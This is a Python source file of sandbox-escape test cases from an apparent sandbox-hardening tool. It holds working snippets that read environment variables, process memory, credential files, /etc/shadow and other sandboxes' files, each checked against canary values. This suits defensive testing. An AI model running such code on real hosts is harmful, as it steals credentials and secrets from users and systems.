"""Group E: the supervisor's secrets."""

from __future__ import annotations

from fumehood.attacks import watch
from fumehood.attacks.model import Attack
from fumehood.model import Boundary

_G = "secrets"

ATTACKS = (
    Attack(
        "E1", _G, "the whole environment",
        """
for name, value in os.environ.items():
    say(name + "=" + value)
""",
        watch.printed("env"), "any exec tool", Boundary.LIMITS,
    ),
    Attack(
        "E1b", _G, "the environment that the kernel keeps for the process",
        "leak('/proc/self/environ')",
        watch.printed("env"), "bubblewrap --clearenv", Boundary.LIMITS,
    ),
    Attack(
        "E1c", _G, "the whole memory of the process searched for what it inherited",
        """
sought = b"FHCANARY" + b"-env-"
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        low, high = (int(n, 16) for n in line.split()[0].split("-"))
        if " r" in line and high - low < 64 << 20:
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(low)
                block = memory.read(high - low)
                for match in re.finditer(sought + b"[0-9a-f]{8,}", block):
                    say(match.group())
""",
        watch.printed("env"), "fork without exec", Boundary.LIMITS,
    ),
    Attack(
        "E2", _G, "the supervisor's environment, up the line of parents",
        """
pid = os.getppid()
for _ in range(6):
    leak("/proc/%d/environ" % pid)
    with trying, open("/proc/%d/stat" % pid) as file:
        pid = int(file.read().rpartition(")")[2].split()[1])
leak("/proc/%d/environ" % T.supervisor)
""",
        watch.printed("env"),
    ),
    Attack(
        "E2b", _G, "the memory of another process of the host, through /proc",
        """
with trying:
    with open("/proc/%d/mem" % T.bystander, "rb", 0) as memory:
        memory.seek(T.bystander_address)
        say(repr(memory.read(128)))
""",
        watch.printed("env"),
    ),
    Attack(
        "E2c", _G, "the memory of another process of the host, by process_vm_readv",
        """
buffer = ctypes.create_string_buffer(128)
local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 128)
remote = (ctypes.c_uint64 * 2)(T.bystander_address, 128)
with trying:
    syscall("process_vm_readv", T.bystander, local, 1, remote, 1, 0)
    say(repr(buffer.raw))
""",
        watch.printed("env"),
    ),
    Attack(
        "E2d", _G, "a descriptor taken out of another process of the host",
        """
with trying:
    fd = syscall("pidfd_getfd", syscall("pidfd_open", T.bystander, 0), T.bystander_fd, 0)
    say(os.pread(fd, 4096, 0))
""",
        watch.printed("fd"),
    ),
    Attack(
        "E3", _G, "the usual credential files",
        """
for home in (T.home, os.path.expanduser("~"), "/root"):
    for name in T.credentials:
        leak(os.path.join(home, name))
""",
        watch.printed("home"), "infostealers in npm and PyPI packages", proves=("mount_ns",),
    ),
    Attack(
        "E6", _G, "paths of the host in tracebacks and in the interpreter's own variables",
        """
import traceback
try:
    raise ValueError
except ValueError:
    say(traceback.format_exc())
say(repr((sys.argv, sys.orig_argv, sys.path, sys.executable, os.getcwd(), os.environ.get("TMPDIR"))))
say(repr([getattr(m, "__file__", None) for m in list(sys.modules.values())]))
with trying:
    say(os.readlink("/proc/self/cwd"))
leak("/proc/self/mountinfo")
""",
        watch.printed_fact_anywhere("name of the supervisor's temporary folder", lambda run: run.stage.folder.name),
    ),
    Attack(
        "E12", _G, "the host's table of password hashes",
        """
with trying:
    say("<<" + open("/etc/shadow").readline().strip() + ">>")
""",
        watch.printed_fact("first line of /etc/shadow", lambda _: watch.fact_line("/etc/shadow")), needs=("root",),
    ),
    Attack(
        "E13", _G, "the host's machine-id",
        """
for path in ("/etc/machine-id", "/var/lib/dbus/machine-id"):
    with trying:
        say("<<" + open(path).read().strip() + ">>")
""",
        watch.printed_fact("machine-id", lambda _: watch.fact_file("/etc/machine-id")), needs=("machine_id",),
    ),
    Attack(
        "E13b", _G, "the host's name",
        "say('<<' + os.uname().nodename + '>>')",
        watch.printed_fact("name", lambda _: watch.host_name()), proves=("uts_ns", "hostname"),
    ),
    Attack(
        "E15", _G, "the files of another live sandbox",
        """
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    with trying, open(os.path.join(folder, "note-" + T.token), "w") as file:
        file.write(T.note)
hold()
""",
        watch.printed_note(), second_when="beside",
        second="""
base = os.path.dirname(os.getcwd())
for folder in {"/tmp", "/dev/shm", "/var/tmp", "/work", base} - {"/"}:
    for between in ("/", "/*/", "/*/*/"):
        for path in glob.glob(folder + between + "note-" + T.token):
            leak(path)
for pid in others():
    leak("/proc/%d/cwd/note-%s" % (pid, T.token))
""",
    ),
    Attack(
        "E16", _G, "the memory of another live sandbox",
        """
keep = T.note
hold()
""",
        watch.printed_note(), second_when="beside",
        second="""
sought = b"FHNOTE" + b"-"
named = []
for pid in others():
    with trying:
        named += [pid] if open("/proc/%d/comm" % pid).read() == "fh-done\\n" else []
for pid in named or others():
    with trying, open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as memory:
        for line in maps:
            low, high = (int(n, 16) for n in line.split()[0].split("-"))
            if "rw" in line and high - low < 16 << 20:
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(low)
                    for match in re.finditer(sought + b"[0-9a-f]{24}", memory.read(high - low)):
                        say(match.group())
""",
    ),
)  # fmt: skip
